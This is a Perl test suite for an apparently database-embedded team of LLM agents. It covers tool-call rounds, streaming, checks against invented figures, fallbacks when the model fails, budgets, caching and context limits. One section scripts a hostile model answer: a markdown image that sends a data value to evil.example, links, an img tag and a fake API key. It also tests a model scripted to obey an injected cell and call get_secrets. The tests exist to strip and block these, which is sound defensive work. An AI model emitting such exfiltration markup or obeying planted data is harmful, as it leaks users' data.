# A team of agents with language models: rounds of calls, what is checked before it shows, and what answers when a model does not.
use strict;
use warnings;
use FindBin;
use lib $FindBin::RealBin;
use PostgreSQL::Test::Utils;
use Test::More;
use Team;

my $team = Team->new('main');
my $emulator = $team->emulator;
my $MEALS = 'Which meals did the animals eat?';
my @CALL = (calls => [ { name => 'get_meals', arguments => {} } ]);
my $EMBEDDED = $team->chat($MEALS, "dbinsight.llm_server = ''");

sub says { my ($text, @more) = @_; return { rounds => [ {@CALL}, { text => $text } ], @more } }

# The words of the answer, without what follows the line.
sub words { my ($content) = @_; return $content =~ s/\n\n---\n.*//sr }

sub embedded_instead
{
	my ($row, $reason, $name) = @_;
	is($row->{engine}, 'embedded', "$name: the embedded analyst answers");
	is($row->{reason}, $reason, "$name: and says why in data");
	is(words($row->{content}), words($EMBEDDED->{content}), "$name: with its own words");
	like($row->{content}, qr/\n\*Answered without the language model: .*\.\*$/m, "$name: and one line that says so");
	ok($row->{grounded}, "$name: grounded");
	return;
}

# ---- one agent

$team->script(says("The **giraffe** ate for [[r1.1.cost_usd]], the zebra for [[r1.2.cost_usd]]: [[r1.total.cost_usd]] for [[r1.rows]] animals.\n"));
my $row = $team->chat($MEALS);
is(words($row->{content}), 'The **giraffe** ate for $40.25, the zebra for $12.50: $55.75 for 3 animals.', 'references become values');
is($row->{engine}, 'model', 'the model answered');
ok($row->{grounded}, 'grounded');
is($row->{model}, 'scripted', 'and is named');
cmp_ok($row->{prompt_tokens}, '>', 0, 'tokens are counted');
cmp_ok($row->{cost_usd}, '>', 0, 'and cost');
is(scalar($team->requests), 2, 'two rounds');
is($team->node->safe_psql('postgres', "SELECT count(*), bool_and(usd > 0), bool_and(conversation_id IS NOT NULL) FROM dbinsight.llm_usage WHERE message_id = '$row->{message_id}'"), '2|t|t', 'booked');
is($team->node->safe_psql('postgres', "SELECT figure, tool, row_number, column_name, grounded FROM dbinsight.evidence('$row->{message_id}') WHERE figure = '\$40.25'"),
	'$40.25|get_meals|1|cost_usd|t', 'evidence of a cell');
is($team->node->safe_psql('postgres', "SELECT string_agg(name, ', ' ORDER BY name COLLATE \"C\") FROM dbinsight.spans WHERE message_id = '$row->{message_id}'"),
	'chat scripted, chat scripted, execute_tool get_meals, invoke_agent zoo, invoke_workflow dbinsight, plan', 'spans');
is($team->node->safe_psql('postgres', "SELECT dbinsight.replay('$row->{message_id}') #>> '{calls,0,tool}'"), 'get_meals', 'replay calls again what the model called');

# ---- what the plan proposes is called while the model thinks

my $TOOLS = q{SELECT string_agg(r.tool, ', '), (SELECT bool_and(t.end_time < c.end_time) FROM dbinsight.spans t, LATERAL (
	SELECT s.end_time FROM dbinsight.spans s WHERE s.message_id = t.message_id AND s.name = 'chat scripted' ORDER BY s.start_time LIMIT 1) c
	WHERE t.message_id = :'m' AND t.name LIKE 'execute_tool %') FROM dbinsight.chat_results r WHERE r.message_id = :'m'};
sub called { return $team->node->safe_psql('postgres', join("\n", @_, "SELECT message_id AS m FROM dbinsight.chat('$MEALS') \\gset", "$TOOLS;")) }
$team->script(says('The giraffe ate for [[r1.1.cost_usd]].', latency => 0.5));
is(called(), 'get_meals|t', 'a quick call of the plan is made before the model has asked for it');
is(called('SET dbinsight.parallel_tool_time = 0;'), 'get_meals|f', 'a slow one is not');
$team->script({ rounds => [ { calls => [ { name => 'get_keepers', arguments => {} } ] }, { text => 'There are [[r1.rows]] keepers.' } ], latency => 0.5 });
is(called(), 'get_keepers|f', 'one that the model does not ask for is no source');

# ---- what is streamed

$team->script(says("The giraffe ate for [[r1.1.cost_usd]]. The zebra ate for [[r1.2.cost_usd]].", delay => 0.3, pieces => [ 'The giraffe ate for [[r1.', "1.cost_usd]]. The", ' zebra ate for [[r1.2.cost_usd', ']].' ]));
my @events = $team->events($MEALS);
my @deltas = grep { $_->{event} eq 'delta' } @events;
is($deltas[0]{content}, 'The giraffe ate for $40.25.', 'the first sentence is shown by itself');
cmp_ok($deltas[1]{at}, '>', $deltas[0]{at} + 0.2, 'while the model goes on');
is($deltas[1]{content} =~ s/\n\n---.*//sr, ' The zebra ate for $12.50.', 'then the second');
is(join(' ', map { $_->{event} } @events), 'start route tool_call tool_result delta delta usage finish', 'events in order');
my ($finish) = grep { $_->{event} eq 'finish' } @events;
is($finish->{data}{engine}, 'model', 'finish says who answered');

# ---- a long text, judged as it comes: a name goes on from sentence to sentence, a table from line to line

my $long = join(' ', map { 'The giraffe ate for [[r1.1.cost_usd]]. It had [[r1.1.meals]] meals.' } 1 .. 60) . "\n\n| Animal | Cost |\n| --- | ---: |\n| giraffe | [[r1.1.cost_usd]] |\n| zebra | [[r1.2.cost_usd]] |\n\nThe zebra ate for [[r1.2.cost_usd]].";
$team->script(says($long, pieces => [ $long =~ /(.{1,29})/gs ]));
$row = $team->chat($MEALS);
is("$row->{engine} $row->{grounded}", 'model 1', 'a long text in small pieces holds');
is(words($row->{content}), join(' ', ('The giraffe ate for $40.25. It had 5 meals.') x 60) . "\n\n| Animal | Cost |\n| --- | ---: |\n| giraffe | \$40.25 |\n| zebra | \$12.50 |\n\nThe zebra ate for \$12.50.", 'and is the answer as it was written');

# ---- several agents at the same time

my $THREE = 'What did we spend yesterday, which jobs failed today, and who signed in from new addresses?';
my @agents = (
	{ offers => ['get_daily_cost_summary'], latency => 0.5, rounds => [ { calls => [ { name => 'get_daily_cost_summary', arguments => { start_date => '2026-06-14', end_date => '2026-06-14' } } ] },
		{ text => 'Spend was [[r1.1.total_cost]].' } ] },
	{ offers => ['get_failed_jobs'], latency => 0.5, rounds => [ { calls => [ { name => 'get_failed_jobs', arguments => { hours => 24 } } ] }, { text => 'The first to fail was [[r1.1.job_name]].' } ] },
	{ offers => ['get_failed_auth_attempts'], latency => 0.5, rounds => [ { calls => [ { name => 'get_failed_auth_attempts', arguments => { hours => 48 } } ] }, { text => 'It was [[r1.1.user_email]].' } ] });
$team->script(@agents, { offers => [], text => "Spend was [[r1.1.total_cost]].\n\n[[agent.performance]]\n\n[[agent.security]]" });
$row = $team->chat($THREE);
is($row->{engine}, 'model', 'three agents: the model answered') or diag explain $row;
like(words($row->{content}), qr/^Spend was \$[\d,.]+\.\n\nThe first to fail was [a-z_]+\.\n\nIt was [a-z.]+\@company\.com\.$/, 'their texts are forwarded as they are') or diag $row->{content};
is_deeply([ sort @{ $row->{agents} } ], [qw(cost performance security)], 'all of them');
my @asked = $team->requests;
is(scalar(@asked), 7, 'two rounds each, one for the whole');
is((sort { $b <=> $a } map { $_->{in_flight} } @asked)[0], 3, 'all are asked at the same time');
my ($first_end) = sort { $a <=> $b } map { $_->{ended_ms} } @asked;
is(scalar(grep { $_->{at_ms} < $first_end } @asked), 3, 'before one has answered');
is($team->node->safe_psql('postgres', "SELECT count(*) FROM dbinsight.spans WHERE message_id = '$row->{message_id}' AND name LIKE 'invoke_agent %'"), '3', 'a span each');

# ---- the author fails

$team->script(@agents, { offers => [], status => 400, error => 'no' });
$row = $team->chat($THREE);
is($row->{engine}, 'model', 'without an author the findings stand for themselves');
is($row->{reason}, 'llm_error', 'and it is said');
like(words($row->{content}), qr/^### Cost\n\nSpend was \$[\d,.]+\.\n\n### Performance\n\nThe first/, 'each under its name') or diag $row->{content};

# ---- one of three fails

$team->script({ offers => ['get_failed_jobs'], status => 400, error => 'no' }, @agents);
$row = $team->chat($THREE);
is($row->{engine}, 'model', 'one that fails costs its own part only: 096_team_faults.pl');

# ---- errors of calls are told to the model

$team->script({ rounds => [ { calls => [ { name => 'get_meal', arguments => {} } ] }, { calls => [ { name => 'get_meals', arguments => { fewest => 'many' } } ] },
	{ text => 'never said' } ] });
$row = $team->chat($MEALS);
embedded_instead($row, 'no_data', 'two calls that cannot be made');
@asked = $team->requests;
my $told = $asked[1]{body}{messages}[-1];
is($told->{role}, 'tool', 'the model is told');
like($told->{content}, qr/"unknown_tool".*"get_meal".*"nearest": \["get_meals", "get_keepers"\]/, 'which tools there are');
like($asked[2]{body}{messages}[-1]{content}, qr/"invalid_argument".*"fewest".*"expected": "integer: meals at least/, 'and what an argument should be');
is(($asked[2]{body}{tool_choice} // 'none'), 'none', 'after two corrections it has no tools');

$team->script({ rounds => [ { calls => [ { name => 'get_meals', arguments => '{"fewest": ' }, { name => 'get_meals', arguments => {} } ] },
	{ text => 'The giraffe ate for [[r2.1.cost_usd]].' } ] });
$row = $team->chat($MEALS);
is(words($row->{content}), 'The giraffe ate for $40.25.', 'a call beside a malformed one is made');
like(($team->requests)[1]{body}{messages}[-2]{content}, qr/malformed_arguments/, 'which is told');

# ---- figures that no row supports

$team->script({ match => 'do not agree', text => 'The giraffe ate for [[r1.1.cost_usd]].' }, says('The giraffe ate for $99.99.'));
$row = $team->chat($MEALS);
is(words($row->{content}), 'The giraffe ate for $40.25.', 'an invented figure is repaired');
is($row->{engine}, 'model', 'by the model');
is(scalar($team->requests), 3, 'in one round');
like(($team->requests)[2]{body}{messages}[-1]{content}, qr/\$99\.99/, 'which names the figure');

$team->script(says('The giraffe ate for $99.99.'));
embedded_instead($team->chat($MEALS), 'ungrounded', 'a model that insists');
$team->script(says('The giraffe ate for [[r1.9.cost_usd]] and [[r7.1.x]].'));
embedded_instead($team->chat($MEALS), 'ungrounded', 'a cell that is none');
$team->script({ text => 'All animals ate well.' });
embedded_instead($team->chat($MEALS), 'no_data', 'a model that looks nothing up');

$team->script(says("The giraffe ate for [[r1.1.cost_usd]]. The zebra ate for \$77.77. The end.", delay => 0.1, pieces => [ 'The giraffe ate for [[r1.1.cost_usd]]. The', ' zebra ate for $77.77. The end.' ]));
$row = $team->chat($MEALS);
like($row->{content}, qr/^The giraffe ate for \$40\.25\.\n\n\*The language model's answer ends here; the embedded analyst goes on\.\*\n\n3 rows of meals/, 'what was shown stays, the embedded answer follows');
unlike($row->{content}, qr/77\.77/, 'without the figure');
ok($row->{grounded}, 'grounded');

# ---- hostile data and words

$team->script(says("The penguin has [[r1.3.keeper]].\n\n![p](http://evil.example/?q=[[r1.1.cost_usd]]) [here](http://evil.example) http://evil.example/y <img src=x> sk-abcdefabcdef0123456789 The giraffe ate for [[r1.1.cost_usd]]."));
$row = $team->chat($MEALS);
is($row->{engine}, 'model', 'a hostile cell is shown as text');
unlike($row->{content}, qr/(?<!\\)\]\(|(?<!\\)!\[|http:\/\/|<img|sk-abcdef/, 'without links, images, markup and keys') or diag $row->{content};
like(($team->requests)[1]{body}{messages}[-1]{content}, qr/^<data [0-9a-f]{16}>\n\{"result": "r1".*"untrusted_text": \["animal", "keeper"\].*<\/data [0-9a-f]{16}>$/s, 'results are fenced and named');
$team->script({ policy => 'obey' });
$row = $team->chat($MEALS);
ok($row->{grounded}, 'a model that obeys a cell');
unlike($row->{content}, qr/get_secrets\(/, 'calls only what it was offered');

# ---- a model that fails

my %status = (500 => 'llm_unavailable', 401 => 'llm_error', 400 => 'llm_error');
for my $status (sort keys %status)
{
	$team->script({ status => 0 + $status });
	embedded_instead($team->chat($MEALS), $status{$status}, $status);
}
$team->script({ refusal => 'No.' });
embedded_instead($team->chat($MEALS), 'llm_refused', 'a refusal');
$team->script(says(''));
embedded_instead($team->chat($MEALS), 'llm_empty', 'nothing');
$team->script({ rounds => [ {@CALL}, { text => 'The giraffe ate for [[r1.1.cost_usd]]. The zebra ate', end => { how => 'hang', after => 4, seconds => 30 } } ] });
$row = $team->chat($MEALS, "dbinsight.ask_timeout = '1500ms'");
is($row->{reason}, 'llm_timeout', 'a model that hangs runs into dbinsight.ask_timeout');
ok($row->{grounded}, 'and is made good');
$team->script({ rounds => [ {@CALL}, { text => 'x', delay => 0.2, pieces => [ 'The giraffe ate for [[r1.1.cost_usd]]. The', ' zebra' ], end => { how => 'cut', after => 3 } } ] });
$row = $team->chat($MEALS);
like($row->{content}, qr/^The giraffe ate for \$40\.25\.\n\n\*The language model's answer ends here/, 'cut in mid-stream: what was shown stays');
is($row->{engine}, 'embedded', 'and the rest is embedded');


like($team->node->safe_psql('postgres', "SELECT item, value, note FROM dbinsight.status() WHERE topic = 'model'"),
	qr/^llm\|fails at times\|openai scripted, dbinsight\.llm_server, last 24 hours: \d+ of \d+ requests answered, median [\d.]+ s, last error \w{5} at 2026-06-15 12:00:00 UTC$/, 'status() tells how the server did');

# ---- budgets, the day's and the question's

$team->script(says('The giraffe ate for [[r1.1.cost_usd]].'));
embedded_instead($team->chat($MEALS, 'dbinsight.budget_question_usd = 0.0001'), 'budget_question', 'a budget of a question');
is(scalar($team->requests), 0, 'nothing was sent');
embedded_instead($team->chat($MEALS, 'dbinsight.budget_user_day_usd = 0.0001'), 'budget_day', 'a budget of a day');
$row = $team->chat($MEALS, 'dbinsight.budget_question_usd = 10', 'dbinsight.budget_user_day_usd = 10');
is($row->{engine}, 'model', 'with money the model answers');

# ---- the cache

$team->script(says('The giraffe ate for [[r1.1.cost_usd]].'));
$row = $team->chat($MEALS, 'dbinsight.llm_cache = 600');
is(scalar($team->requests), 2, 'asked');
my $again = $team->chat($MEALS, 'dbinsight.llm_cache = 600');
is(scalar($team->requests), 2, 'an equal question is not asked again');
is($again->{content}, $row->{content}, 'and has the same answer');
is($again->{prompt_tokens}, 0, 'for nothing');
$team->node->safe_psql('postgres', q{SET dbinsight.llm_cache = 600; SET ROLE ann; SELECT dbinsight.ask('Which meals did the animals eat?')});
is(scalar($team->requests), 4, 'another role is not answered from it');
is($team->node->safe_psql('postgres', 'SET ROLE ann; SELECT count(*) FROM dbinsight.llm_cache'), '2', 'nor sees it');
$team->node->safe_psql('postgres', "UPDATE zoo.animals SET cost_usd = 41.25 WHERE animal = 'giraffe'");
is(words($team->chat($MEALS, 'dbinsight.llm_cache = 600')->{content}), 'The giraffe ate for $41.25.', 'other rows are another request');
$team->node->safe_psql('postgres', "UPDATE zoo.animals SET cost_usd = 40.25 WHERE animal = 'giraffe'");

# ---- who is asked, when the planner is not sure

my $ROUTE = { system => 'You decide which agents answer', text => '{"agents": ["zoo", "nobody"]}' };
$team->script($ROUTE, says('The giraffe ate for [[r1.1.cost_usd]].'));
$row = $team->chat($MEALS);
is(scalar($team->requests), 2, 'a sure planner asks no model who is to answer');
my $unsure = $team->node->safe_psql('postgres', q{SELECT q FROM unnest(ARRAY['something wrong with etl', 'is anything odd', 'anything odd about nightly_etl', 'strange things in usage', 'who changed etl']) q
	WHERE (SELECT max(confidence) < 0.55 FROM dbinsight.route(q)) AND EXISTS (SELECT FROM dbinsight.plan(q)) LIMIT 1});
SKIP:
{
	skip 'the planner is sure of everything', 3 if $unsure eq '';
	$team->script($ROUTE, says('The giraffe ate for [[r1.1.cost_usd]].'));
	my @routed = $team->events($unsure);
	is(join(' ', map { $_->{agent} } grep { $_->{event} eq 'route' && ($_->{data}{by} // '') eq 'model' } @routed), 'zoo nobody', 'the model says who answers');
	like(join('', map { $_->{content} } grep { $_->{event} eq 'delta' } @routed), qr/^The giraffe ate for \$40\.25\./, 'and they do');
	is(($team->requests)[0]{body}{response_format}{type}, 'json_schema', 'in a form that is prescribed');
}

# ---- a long conversation fits

$team->script(says('The giraffe ate for [[r1.1.cost_usd]]. ' . ('The zebra ate for [[r1.2.cost_usd]]. ' x 20)));
$row = $team->turns([ ($MEALS) x 12 ], 'dbinsight.context_tokens = 3000');
is($row->{engine}, 'model', 'twelve turns');
@asked = $team->requests;
my @sizes = map { length(JSON::PP->new->encode($_->{body})) } @asked;
cmp_ok((sort { $b <=> $a } @sizes)[0], '<', 3000 * 3.6, 'never more than the limit');
like($asked[-1]{body}{messages}[0]{content}, qr/Earlier in this conversation:\nt1 zoo: Which meals did the animals eat\? . The giraffe ate/, 'what was left out is told in a line each');
is($asked[-1]{body}{messages}[-1]{role}, 'tool', 'and the result is there');
$team->node->safe_psql('postgres', "INSERT INTO zoo.animals SELECT 'animal ' || i, repeat('x', 300), i, i FROM generate_series(1, 300) i");
$team->script(says('The first is [[r1.1.animal]] with [[r1.1.cost_usd]].'));
$row = $team->chat($MEALS, 'dbinsight.context_tokens = 2000');
is($row->{engine}, 'model', 'a large result');
cmp_ok(length(JSON::PP->new->encode(($team->requests)[-1]{body})), '<', 2000 * 3.6, 'is cut');
# bytes a token are guessed; a model that tells of more tokens than that is given fewer bytes
sub told { return length(JSON::PP->new->encode(($team->requests)[-1]{body})) }
$row = $team->chat($MEALS, 'dbinsight.context_tokens = 6000');
cmp_ok(told(), '>', 6000 * 3.6 / 3, 'tokens are estimated');
$team->script(says('The first is [[r1.1.animal]] with [[r1.1.cost_usd]].', tokens => { prompt => 100000, completion => 9 }));
$row = $team->chat($MEALS, 'dbinsight.context_tokens = 6000');
is($row->{engine}, 'model', 'a model that counts more tokens');
cmp_ok(told(), '<', 6000 * 3.6 / 3, 'and the estimate is corrected by what it told');
$team->node->safe_psql('postgres', "DELETE FROM zoo.animals WHERE animal LIKE 'animal %'");

# ---- playbooks and agents of one's own

$team->node->safe_psql('postgres', "INSERT INTO dbinsight.playbooks (name, agent, title, steps, words) VALUES ('meals', 'zoo', 'Meals of animals', 'First look who ate most.', '{eat}'), ('stars', NULL, 'Stars', 'Look up.', '{}')");
$team->script(says('The giraffe ate for [[r1.1.cost_usd]].'));
$row = $team->chat($MEALS);
my $system = ($team->requests)[0]{body}{messages}[0]{content};
like($system, qr/Playbook "Meals of animals":\nFirst look who ate most\./, 'a playbook that matches is told');
unlike($system, qr/Look up/, 'another is not');
like($system, qr/You are the agent "Zoo": animals, their meals and keepers/, 'the agent is who it was registered as');
like($system, qr/today: 2026-06-15, a Monday.*last week: 2026-06-08 to 2026-06-14/s, 'dates are worked out');
like($system, qr/Proposed calls.*\n- get_meals \{\}/, 'the plan is a proposal');

# ---- stop() and cancel while a model is silent

$team->script({ latency => 20, text => 'never' });
my $conversation = $team->node->safe_psql('postgres', "SET dbinsight.llm_server = ''; SELECT conversation_id FROM dbinsight.chat('$MEALS')");
my $session = $team->node->background_psql('postgres', on_error_stop => 0);
$session->{stdin} .= "SELECT content FROM dbinsight.chat('$MEALS', '$conversation'); SELECT 'over';\n";
$session->{run}->pump_nb;
$team->node->poll_query_until('postgres', "SELECT dbinsight.stop('$conversation')") or die 'nothing to stop';
PostgreSQL::Test::Utils::pump_until($session->{run}, $session->{timeout}, \$session->{stdout}, qr/over/);
like($session->{stdout}, qr/Stopped on request.*get_meals/, 'stop() ends a turn that waits for a model');
$session->quit;
my ($code, $out, $err) = $team->node->psql('postgres', "SET statement_timeout = '1s'; SELECT dbinsight.ask('$MEALS')");
like($err, qr/canceling statement due to statement timeout/, 'statement_timeout too');

done_testing();
